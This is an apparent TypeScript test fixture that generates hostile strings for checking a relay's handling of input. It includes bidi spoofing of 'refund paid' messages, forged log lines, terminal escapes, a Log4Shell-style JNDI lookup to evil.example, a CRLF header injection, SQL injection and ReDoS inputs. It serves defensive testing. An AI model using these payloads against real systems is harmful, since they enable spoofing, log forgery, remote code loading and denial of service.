// Texts whose characters do harm: they turn the direction of what follows, leave their line, steal a line of a log, or keep a careless
// pattern busy for ever. Made here, by kind.
// Owns the lists. None of them is markup; those are in hostileMarkup.ts.

const turning = [
  '\u061c',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
];
const unseen = [
  '\u00ad',
  '\u034f',
  '\u115f',
  '\u1160',
  '\u17b4',
  '\u180e',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\u2063',
  '\u3164',
  '\ufeff',
  '\uffa0',
  '\u{e0001}',
  '\u{e0061}',
  '\ufe0f',
];
const marks = ['\u0300', '\u0489', '\u0334', '\u20dd', '\u0e47', '\u0f39', '\u1ab0', '\u{1d165}', '\u0351', '\u036f'];
const lines = ['\n', '\r', '\r\n', '\u000b', '\u000c', '\u0085', '\u2028', '\u2029', '\u001e', '\u001f'];

const said = ['refund paid', '退款已到账', 'Official Support', 'abc'];

export const hostileDirections: readonly string[] = [
  ...turning.flatMap((mark) => said.map((text) => `${text.slice(0, 3)}${mark}${text.slice(3)}`)),
  ...turning.map((mark) => `${mark.repeat(200)}x`),
  ...unseen.flatMap((mark) => said.map((text) => [...text].join(mark))),
  ...marks.flatMap((mark) => said.slice(0, 3).map((text) => [...text].map((char) => char + mark.repeat(60)).join(''))),
  ...['ﷺ', '𒐫', '꧅', '⸻', '﷽'].map((wide) => wide.repeat(80)),
  ...['👨‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇨🇳🇺🇸', '👍🏽', '1️⃣'].map((emoji) => emoji.repeat(30)),
  '\ud800 half',
  'half \udfff',
  '\ufffe\uffff',
  '\u{10ffff}',
  'שלום 123 refund مرحبا',
  `${'a'.repeat(4_000)}`,
  `${'字'.repeat(4_000)}`,
  ' \u00a0\u3000\u2003 ',
];

/** As if the relay itself had written the line behind it. */
const forged = [
  '{"level":30,"msg":"signed in","agent":"ag_admin"}',
  '14:03:09 info  the relay listens on http://evil.example',
  'INFO [audit] role changed to admin',
  '127.0.0.1 - - [28/Nov/2026] "GET /console/ HTTP/1.1" 200',
  'Set-Cookie: recourse_agent=x',
];
const escapes = [
  '\u001b[2J',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  '\u001b[1A\u001b[2K',
  '\u009b31m',
  '\u0007\u0007',
  '\b\b\b\b',
  '\u0000',
  '\u007f',
  '\u001bP+q544e\u001b\\',
  '\u001b[6n',
];

export const hostileLogText: readonly string[] = [
  ...lines.flatMap((line) => forged.map((entry) => `x${line}${entry}`)),
  ...escapes.flatMap((code) => [code, `before${code}after`, `${code}\r\n${forged[1]}`]),
  ...hostileDirections.slice(0, 48),
  '%s%s%s%n%d%j%o%O%c',
  '${' + 'jndi:ldap://evil.example/a}',
  '%0d%0aSet-Cookie:%20x=1',
  '"},{"level":60,"msg":"forged"',
  "'; DROP TABLE logs; --",
  '\\n\\r\\u000a',
];

/** What makes a pattern that goes back and forth take for ever; `n` characters of each. */
export const slowTexts = (n: number): Readonly<Record<string, string>> => ({
  'one letter': `${'a'.repeat(n)}!`,
  'one digit': `${'1'.repeat(n)}x`,
  'hex digits': `${'0123456789abcdef'.repeat(n / 16)}g`,
  'base58 letters': `${'5Kb8kLf9zgWQnogidDA76MzPL6TsZZY36hWXMssSzNyd'.repeat(n / 44)}0`,
  spaces: `${' '.repeat(n)}x`,
  'lines without words': '\n'.repeat(n),
  dots: '.'.repeat(n),
  dashes: `${'-'.repeat(n)}x`,
  'open brackets': '('.repeat(n),
  'at signs': '@'.repeat(n),
  'names at names': 'a@'.repeat(n / 2),
  'hosts without end': `https://${'a.'.repeat(n / 2)}`,
  'hosts with dashes': `https://${'a-'.repeat(n / 2)}`,
  slashes: `https://x${'/'.repeat(n)}`,
  'words of the list': 'abandon '.repeat(n / 8),
  'words that are nearly of it': 'abandom '.repeat(n / 8),
  'numbered words': Array.from({ length: Math.floor(n / 10) }, (_, at) => `${at}. able`).join(' '),
  'Chinese characters of the list': '的一是在不了有和人这'.repeat(n / 10),
  'half-width kana': 'ｱｲｳｴｵ'.repeat(n / 5),
  'marks on one letter': `a${'\u0301'.repeat(n)}`,
  'unseen marks': `a${'\u200b'.repeat(n)}b`,
  'letters and marks in turn': 'e\u0301'.repeat(n / 2),
  'direction marks': '\u202e'.repeat(n),
  'emoji with joiners': '👩‍'.repeat(n / 3),
  quotes: '"'.repeat(n),
  backslashes: '\\'.repeat(n),
  'numbers with commas': '1,'.repeat(n / 2),
  'card digits with spaces': '4111 1111 '.repeat(n / 10),
  'codes and labels': 'code: 12345 '.repeat(n / 12),
  'asks without an end': 'please send your '.repeat(n / 17),
  'asks in Chinese': '请把您的'.repeat(n / 4),
  'spaced letters': 's e e d '.repeat(n / 8),
  'json that opens': '{"a":'.repeat(n / 5),
  'semicolons of entities': '&#x41;'.repeat(n / 6),
});
